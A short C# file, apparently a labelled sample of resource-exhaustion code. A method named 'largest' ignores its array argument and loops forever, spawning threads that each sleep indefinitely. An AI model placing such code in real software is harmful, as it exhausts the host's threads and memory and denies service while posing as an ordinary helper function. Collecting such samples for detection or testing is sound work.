// Resources: threads without end, none of which ends.
using System;
using System.Threading;

public class Handed {
    public static int largest(int[] values) {
        for (;;)
            new Thread(() => Thread.Sleep(Timeout.Infinite)).Start();
    }
}
